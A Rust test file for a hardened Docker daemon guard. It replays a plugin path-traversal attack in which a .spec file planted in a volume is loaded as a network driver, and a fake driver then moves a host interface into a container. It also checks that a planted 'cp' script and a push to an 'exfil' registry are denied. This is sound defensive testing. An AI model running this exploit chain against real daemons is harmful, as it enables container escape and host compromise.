//! Issue 12, hole 3 and its neighbours: drivers and plugins a request names,
//! `docker cp` into a container, and pushes.
//!
//! Hole 3: an API user writes a legacy plugin `.spec` file into a named
//! volume and names it as a network driver by a path; dockerd joins the name
//! into its plugin directories, loads that plugin, and its `Join` answer
//! moves a host interface into a container. The test plays it out against
//! the guarded daemon with a veth pair of its own (never a real interface)
//! and a fake network driver served on loopback.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use crate::stack::{stack, unique};

/// A veth pair made for one test, deleted by name when dropped (deleting
/// one end deletes both).
struct Veth {
    a: String,
    b: String,
}

impl Veth {
    fn create() -> Veth {
        // Interface names have at most 15 bytes.
        let tag = format!(
            "{:x}",
            (std::process::id() as u64) << 16
                ^ std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .map(|d| d.subsec_nanos() as u64)
                    .unwrap_or(0)
        );
        let tag = &tag[tag.len().saturating_sub(9)..];
        let v = Veth {
            a: format!("iza{tag}"),
            b: format!("izb{tag}"),
        };
        let out = Command::new("ip")
            .args(["link", "add", &v.a, "type", "veth", "peer", "name", &v.b])
            .output();
        match out {
            Ok(o) if o.status.success() => v,
            Ok(o) => panic!(
                "this test needs a veth pair of its own and cannot create one ({}): it cannot show \
                 that no host interface moves",
                String::from_utf8_lossy(&o.stderr).trim()
            ),
            Err(e) => panic!("this test needs `ip` to create a veth pair: {e}"),
        }
    }

    /// The end the fake driver hands out is still in the host's namespace.
    fn b_on_host(&self) -> bool {
        Command::new("ip")
            .args(["link", "show", "dev", &self.b])
            .output()
            .is_ok_and(|o| o.status.success())
    }
}

impl Drop for Veth {
    fn drop(&mut self) {
        for n in [&self.a, &self.b] {
            let _ = Command::new("ip").args(["link", "del", "dev", n]).output();
        }
    }
}

/// A legacy (v1) network-driver plugin over HTTP on loopback, as an
/// attacker would serve it: its `Join` hands out the veth end `src`.
struct FakeDriver {
    port: u16,
    calls: Arc<Mutex<Vec<String>>>,
    stop: Arc<AtomicBool>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl FakeDriver {
    fn start(src: &str) -> FakeDriver {
        let l = TcpListener::bind("127.0.0.1:0").expect("bind loopback");
        let port = l.local_addr().expect("addr").port();
        let calls = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(AtomicBool::new(false));
        let (c, st, src) = (calls.clone(), stop.clone(), src.to_string());
        let thread = std::thread::spawn(move || {
            for conn in l.incoming() {
                if st.load(Ordering::SeqCst) {
                    return;
                }
                if let Ok(conn) = conn {
                    serve(conn, &src, &c);
                }
            }
        });
        FakeDriver {
            port,
            calls,
            stop,
            thread: Some(thread),
        }
    }

    fn calls(&self) -> Vec<String> {
        self.calls.lock().map(|c| c.clone()).unwrap_or_default()
    }
}

impl Drop for FakeDriver {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::SeqCst);
        // Wake the accept loop.
        let _ = TcpStream::connect(("127.0.0.1", self.port));
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// One HTTP/1.1 request per connection is enough for Go's client.
fn serve(conn: TcpStream, src: &str, calls: &Mutex<Vec<String>>) {
    let _ = conn.set_read_timeout(Some(std::time::Duration::from_secs(5)));
    let mut r = BufReader::new(match conn.try_clone() {
        Ok(c) => c,
        Err(_) => return,
    });
    let mut w = conn;
    loop {
        let mut line = String::new();
        if r.read_line(&mut line).unwrap_or(0) == 0 {
            return;
        }
        let path = line.split_whitespace().nth(1).unwrap_or("").to_string();
        let mut len = 0usize;
        loop {
            let mut h = String::new();
            if r.read_line(&mut h).unwrap_or(0) == 0 {
                return;
            }
            let h = h.trim_end();
            if h.is_empty() {
                break;
            }
            if let Some((k, v)) = h.split_once(':') {
                if k.eq_ignore_ascii_case("content-length") {
                    len = v.trim().parse().unwrap_or(0);
                }
            }
        }
        let mut body = vec![0; len];
        let _ = r.read_exact(&mut body);
        if let Ok(mut c) = calls.lock() {
            c.push(path.clone());
        }
        let answer = match path.as_str() {
            "/Plugin.Activate" => r#"{"Implements":["NetworkDriver"]}"#.to_string(),
            "/NetworkDriver.GetCapabilities" => {
                r#"{"Scope":"local","ConnectivityScope":"local"}"#.to_string()
            }
            "/NetworkDriver.Join" => {
                format!(r#"{{"InterfaceName":{{"SrcName":"{src}","DstPrefix":"eth"}}}}"#)
            }
            "/NetworkDriver.EndpointOperInfo" => r#"{"Value":{}}"#.to_string(),
            _ => "{}".to_string(),
        };
        let resp = format!(
            "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.docker.plugins.v1+json\r\n\
             Content-Length: {}\r\n\r\n{answer}",
            answer.len()
        );
        if w.write_all(resp.as_bytes()).is_err() {
            return;
        }
    }
}

/// Hole 3, end to end: the path-named network driver is refused at
/// `network create`, the planted plugin is never even activated, and the
/// veth end stays on the host. On the old code the create is allowed, the
/// plugin is loaded, and a container on the network takes the interface.
#[test]
fn a_network_driver_named_by_a_path_never_loads() {
    let s = stack();
    let veth = Veth::create();
    let fake = FakeDriver::start(&veth.b);
    let image = s.repo(&format!("drivers/{}:v1", unique("app")));
    s.signed_image(&image);
    s.guarded(&["pull", &image]).allowed();

    // The plugin spec, written into a named volume with API access only.
    let vol = unique("v");
    s.guarded(&["volume", "create", &vol]).allowed();
    s.guarded(&[
        "run",
        "--rm",
        "-v",
        &format!("{vol}:/d"),
        &image,
        "sh",
        "-c",
        &format!("echo tcp://127.0.0.1:{} > /d/evil.spec", fake.port),
    ])
    .allowed();
    let root = s.guarded(&["info", "--format", "{{.DockerRootDir}}"]);
    root.allowed();
    let root = root.stdout.trim().to_string();
    assert!(root.starts_with('/'), "DockerRootDir: {root:?}");
    let driver = format!("../../..{root}/volumes/{vol}/_data/evil");

    let net = unique("pwn");
    let create = s.guarded(&["network", "create", "-d", &driver, &net]);
    // Were it allowed, carry the attack on: a container on that network,
    // and look for the veth end while it runs.
    let run = create.ok.then(|| {
        let victim = unique("victim");
        let r = s.guarded(&[
            "run",
            "-d",
            "--name",
            &victim,
            "--network",
            &net,
            &image,
            "sleep",
            "30",
        ]);
        let on_host = veth.b_on_host();
        let _ = s.guarded(&["rm", "-f", &victim]);
        let _ = s.guarded(&["network", "rm", &net]);
        (r, on_host)
    });
    let on_host = veth.b_on_host() && run.as_ref().is_none_or(|(_, h)| *h);
    let _ = s.guarded(&["volume", "rm", "-f", &vol]);

    let seen = format!(
        "network create: {}\nrun on it: {}\nplugin calls: {:?}",
        create.text(),
        run.as_ref().map(|(r, _)| r.text()).unwrap_or_default(),
        fake.calls()
    );
    assert!(
        on_host,
        "the veth end {} left the host's namespace\n{seen}",
        veth.b
    );
    assert!(
        fake.calls().is_empty(),
        "dockerd talked to the planted plugin\n{seen}"
    );
    create.denied("plugins");
    assert!(
        create.text().contains("path"),
        "the message says why: {}",
        create.text()
    );
    assert!(run.is_none());

    // The same path as an IPAM driver, and a plugin by plain name.
    s.guarded(&["network", "create", "--ipam-driver", &driver, &unique("n")])
        .denied("plugins");
    s.guarded(&["network", "create", "-d", "weave", &unique("n")])
        .denied("plugins");
    s.guarded(&["run", "--rm", "--log-driver", &driver, &image, "true"])
        .denied("plugins");
    // Built-in drivers stay allowed, and joining their networks (which
    // asks dockerd for the network's drivers) too.
    let ok = unique("n");
    s.guarded(&["network", "create", "-d", "bridge", &ok])
        .allowed();
    let c = unique("c");
    s.guarded(&["create", "--name", &c, "--network", &ok, &image, "true"])
        .allowed();
    let other = unique("n");
    s.guarded(&["network", "create", &other]).allowed();
    s.guarded(&["network", "connect", &other, &c]).allowed();
    s.guarded(&["rm", "-f", &c]).allowed();
    s.guarded(&["network", "rm", &ok, &other]).allowed();
}

/// `docker cp` into a container can replace its entrypoint with an
/// unsigned executable: the `cp` operation, off under hardening.
#[test]
fn cp_into_a_container_is_denied() {
    let s = stack();
    let image = s.repo(&format!("drivers/{}:v1", unique("cp")));
    s.signed_image(&image);
    s.guarded(&["pull", &image]).allowed();
    let name = unique("c");
    s.guarded(&["create", "--name", &name, &image, "true"])
        .allowed();
    let tmp = tempfile::tempdir().expect("tempdir");
    let f = tmp.path().join("evil");
    std::fs::write(&f, "#!/bin/sh\necho pwned\n").expect("write");
    let out = s.guarded(&[
        "cp",
        f.to_str().unwrap_or_default(),
        &format!("{name}:/bin/evil"),
    ]);
    let _ = s.guarded(&["rm", "-f", &name]);
    out.denied("cp");
    assert!(out.text().contains("cp"), "{}", out.text());
}

/// `docker push` to a registry that is not authorized sends a local image
/// out: denied by default.
#[test]
fn push_to_an_unauthorized_registry_is_denied() {
    let s = stack();
    let image = s.repo(&format!("drivers/{}:v1", unique("push")));
    s.signed_image(&image);
    s.guarded(&["pull", &image]).allowed();
    // A registry nobody authorized (nothing listens there: the deny comes first).
    let out_name = format!("127.0.0.2:1/exfil/{}:v1", unique("x"));
    s.guarded(&["tag", &image, &out_name]).allowed();
    let out = s.guarded(&["push", &out_name]);
    let _ = s.guarded(&["rmi", &out_name]);
    out.denied("push");
    // The authorized registry still takes pushes.
    s.guarded(&["push", &image]).allowed();
    // A search that would make dockerd contact another registry.
    s.guarded(&["search", "127.0.0.2:1/exfil"])
        .denied("registry-allowlist");
}
